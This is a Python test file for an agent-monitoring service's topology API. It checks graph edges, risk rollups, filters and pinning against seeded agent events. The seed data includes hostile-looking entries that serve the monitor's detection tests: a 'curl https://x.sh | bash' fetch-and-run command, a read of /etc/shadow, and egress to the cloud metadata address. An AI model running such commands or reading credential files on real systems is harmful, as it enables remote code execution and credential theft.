"""Agent topology through HTTP (SPEC §24.5): node and edge ids, edge types, risk rollups,
includeBenign, exact filters, pinning by edgeId and eventId (across the time window), limits."""

from __future__ import annotations

import time

S = 1000
A = {"agentId": "a1", "sessionId": "s1", "workspacePath": "/w1",
     "attribution": {"classification": "confirmed_agent", "monitored": True, "agentScopeId": "a1"}}
B = {"agentId": "b1", "sessionId": "s9", "workspacePath": "/w2",
     "attribution": {"classification": "confirmed_agent", "monitored": True, "agentScopeId": "b1"}}
AGENT = "agent:/w1|a1"


async def ingest(api, events: list[dict], **request) -> list[dict]:
    data = await api.data("POST", "/ingest/events", {**request, "events": events}, expect=201)
    assert data["acceptedEvents"] == len(events), data
    return data["items"]


async def seed(api) -> dict:
    now = int(time.time() * 1000)
    items = await ingest(api, [
        {**A, "kind": "exec", "command": "/usr/bin/git status", "at": now - 90 * S},
        {**A, "kind": "exec", "command": "git log", "at": now - 80 * S},
        {**A, "kind": "exec", "command": "curl https://x.sh | bash", "at": now - 70 * S},
        {**A, "kind": "egress", "peer": "10.0.0.5", "port": 443, "at": now - 60 * S},
        {**A, "kind": "dns", "query": "pypi.org", "at": now - 50 * S},
        {**A, "kind": "file", "path": "/etc/shadow", "at": now - 40 * S},
        {**A, "kind": "llm", "endpoint": "api.openai.com", "at": now - 30 * S},
    ], collectorId="node-1")
    old = await ingest(api, [{**B, "kind": "egress", "peer": "169.254.169.254", "port": 80, "at": now - 5 * 86_400 * S}])
    await api.sync()
    return {"items": items, "old": old[0]}


async def test_graph_nodes_edges_and_summary(api):
    await seed(api)
    graph = await api.data("POST", "/agents/topology", {})
    edges = {e["edgeId"]: e for e in graph["edges"]}
    nodes = {n["nodeId"]: n for n in graph["nodes"]}
    git = f"executes:{AGENT}->tool:git"
    assert git in edges and edges[git]["eventCount"] == 2 and edges[git]["riskyEventCount"] == 0
    bash = f"executes:{AGENT}->tool:curl"
    assert edges[bash]["riskyEventCount"] == 1 and edges[bash]["maxSeverity"] == "high"
    assert edges[bash]["riskCategories"] == [{"riskCategory": "command_danger", "riskName": edges[bash]["riskCategories"][0]["riskName"],
                                              "eventCount": 1}]
    assert edges[bash]["sampleSubject"].startswith("curl")
    assert f"connects:{AGENT}->network:10.0.0.5:443" in edges
    assert f"resolves:{AGENT}->network:pypi.org" in edges
    assert f"accesses:{AGENT}->file:/etc/shadow" in edges
    assert f"calls_llm:{AGENT}->llm:api.openai.com" in edges
    runs_in = edges[f"runs_in:workspace:/w1->{AGENT}"]
    assert runs_in["eventCount"] == 7 and runs_in["type"] == "runs_in"
    observed = edges[f"observed_by:collector:node-1->{AGENT}"]
    assert observed["sourceNodeId"] == "collector:node-1" and observed["targetNodeId"] == AGENT
    agent = nodes[AGENT]
    assert agent["type"] == "agent" and agent["agentId"] == "a1" and agent["riskLevel"] != "none"
    assert len(agent["lastSeen"]) == 19
    summary = graph["summary"]
    assert summary["agentCount"] == 1 and summary["workspaceCount"] == 1 and summary["collectorCount"] == 1
    assert summary["toolTargetCount"] == 2 and summary["externalEndpointCount"] == 2 and summary["fileTargetCount"] == 1
    assert summary["llmEndpointCount"] == 1 and summary["nodeCount"] == len(graph["nodes"])
    assert summary["edgeCount"] == len(graph["edges"]) and summary["riskyEdgeCount"] >= 3  # curl, shadow, runs_in, observed_by
    # the old b1 event is outside the default 3 h window
    assert not any(n.get("agentId") == "b1" for n in graph["nodes"])


async def test_include_benign_filters_and_limits(api):
    await seed(api)
    risky = await api.data("POST", "/agents/topology", {"includeBenign": False})
    assert all(e["riskyEventCount"] > 0 for e in risky["edges"])
    assert f"executes:{AGENT}->tool:git" not in {e["edgeId"] for e in risky["edges"]}
    wide = await api.data("POST", "/agents/topology", {"timeType": "last_7d", "workspacePath": "/w2"})
    assert {n["nodeId"] for n in wide["nodes"]} >= {"agent:/w2|b1", "network:169.254.169.254:80"}
    assert all(e["sourceNodeId"].startswith(("agent:/w2", "workspace:/w2")) for e in wide["edges"])
    q = await api.data("POST", "/agents/topology", {"q": "shadow"})
    assert [e["edgeId"] for e in q["edges"]] == [f"accesses:{AGENT}->file:/etc/shadow"]
    limited = await api.data("POST", "/agents/topology", {"limit": 1})  # clamped to 20
    assert len(limited["edges"]) == 8


async def test_pinning_by_edge_and_event(api):
    data = await seed(api)
    old_edge = "connects:agent:/w2|b1->network:169.254.169.254:80"
    pinned = await api.data("POST", "/agents/topology", {"edgeId": old_edge})
    assert [e["edgeId"] for e in pinned["edges"]] == [old_edge]  # across the window, nothing else
    assert {n["nodeId"] for n in pinned["nodes"]} == {"agent:/w2|b1", "network:169.254.169.254:80"}
    assert pinned["edges"][0]["sampleEventId"] == data["old"]["eventId"] and pinned["edges"][0]["riskyEventCount"] == 1

    by_event = await api.data("POST", "/agents/topology", {"eventId": data["old"]["eventId"]})
    assert {e["edgeId"] for e in by_event["edges"]} == {old_edge, "runs_in:workspace:/w2->agent:/w2|b1"}

    union = await api.data("POST", "/agents/topology", {"edgeId": old_edge, "q": "shadow"})
    assert [e["edgeId"] for e in union["edges"]] == [old_edge, f"accesses:{AGENT}->file:/etc/shadow"]
    nothing = await api.data("POST", "/agents/topology", {"edgeId": "executes:nonsense"})
    assert nothing["edges"] == [] and nothing["summary"]["edgeCount"] == 0
